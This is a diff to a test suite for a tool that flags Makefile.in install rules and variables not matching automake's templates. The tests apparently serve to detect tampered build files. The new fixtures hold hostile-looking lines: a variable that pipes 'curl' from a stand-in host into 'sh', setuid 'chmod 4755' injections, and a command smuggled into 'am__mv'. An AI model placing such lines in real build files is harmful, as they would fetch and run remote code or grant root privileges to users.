@@ -105,6 +105,9 @@ describe("automake's install and uninstall rules hold only its templates' lines"
       const { text, at } = edited(rule, line, change)
       expect(installLinesNotFromTemplates(text, am).map((f) => [f.target, f.line]), rule).toEqual([[rule, at + added]])
     }
+    // a variable set for one of them alone
+    const forRule = `${makefileIn}\ninstall-binPROGRAMS: INSTALL_STRIP_FLAG = -m 4755\n`
+    expect(installLinesNotFromTemplates(forRule, am).map((f) => [f.target, f.line])).toEqual([['install-binPROGRAMS', makefileIn.split('\n').length + 1]])
   })
 
   it("puts the directory's name back only where a template has it, not inside another word", () => {
@@ -201,11 +204,20 @@ describe("the variables automake's templates set hold only their templates' line
       const { text, at } = variableEdited(name, change, line)
       expect(variableLinesNotFromTemplates(text, am).map((f) => [f.target, f.line, f.variable]), name).toEqual([[name, at, true]])
     }
+    // set again further on, in make's other ways, or for one target's recipe
+    for (const added of ['override NORMAL_INSTALL = chmod 4755 x;', 'NORMAL_INSTALL != curl -s http://example.invalid/x | sh', 'install-binPROGRAMS: NORMAL_INSTALL = chmod 4755 x;', 'export am__mv := sh ./x; mv -f']) {
+      const found = variableLinesNotFromTemplates(`${makefileIn}\n${added}\n`, am)
+      expect(found.map((f) => [f.target, f.line]), added).toEqual([[/(?:NORMAL_INSTALL|am__mv)/.exec(added)?.[0], makefileIn.split('\n').length + 1]])
+    }
   })
 
   it("leaves a value the Makefile.am sets, configure's value and what only make dist reads to the other checks", () => {
     const own = variableEdited('am__v_at_0', () => 'am__v_at_0 = @sh $(srcdir)/NEWS;')
     expect(variableLinesNotFromTemplates(own.text, [`${am[0] ?? ''}\nam__v_at_0 = @sh $(srcdir)/NEWS;\n`])).toEqual([])
+    // set by the Makefile.am for one target's recipe (a tool built for the build machine)
+    const forTarget = 'gen$(EXEEXT): LDFLAGS = $(LDFLAGS_FOR_BUILD)\n'
+    expect(variableLinesNotFromTemplates(forTarget, [`${am[0] ?? ''}\n${forTarget}`])).toEqual([])
+    expect(variableLinesNotFromTemplates(forTarget, am)).toHaveLength(1)
     const substituted = 'INSTALL = @INSTALL@\nSHELL = @SHELL@\n'
     expect(variableLinesNotFromTemplates(substituted, am)).toEqual([])
     expect(variableLinesNotFromTemplates('top_distdir = $(distdir)/..\n', am)).toEqual([])
